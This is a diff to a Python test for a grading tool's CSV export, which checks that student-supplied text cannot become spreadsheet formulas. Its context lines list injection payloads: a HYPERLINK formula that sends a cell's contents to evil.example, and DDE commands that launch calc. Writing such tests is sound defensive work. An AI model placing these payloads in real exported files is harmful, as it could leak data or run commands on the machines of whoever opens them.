@@ -21,6 +21,7 @@ from graders.frontends.grade.outputs import regrade, tables
 from graders.frontends.grade.outputs.similarity import Pair, similarity_csv
 from graders.frontends.grade.spreadsheet import FORMULA_STARTS, cell
 from graders.frontends.grade.term.standing import Person, Standing
+from graders.frontends.grade.store import StudentRecord
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
 EVILS = [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
@@ -78,8 +79,8 @@ def _standings() -> list[Standing]:
 
 
 def test_grades_csv_guards_every_text_it_takes() -> None:
-    records = [{"student": evil, "score": 1.0, "exercises": [], "problems": [evil], "integrity": [evil],
-                "error": evil} for evil in EVILS]
+    records = [StudentRecord.from_dict({"student": evil, "score": 1.0, "max_score": 10.0, "exercises": [],
+                                        "problems": [evil], "integrity": [evil], "error": evil}) for evil in EVILS]
     standings = {s.person.id: Standing(**{**s.__dict__, "student": s.person.id}) for s in _standings()}
     _assert_no_formula(tables.grades_csv(records, LESSON, standings), "grades.csv")
 
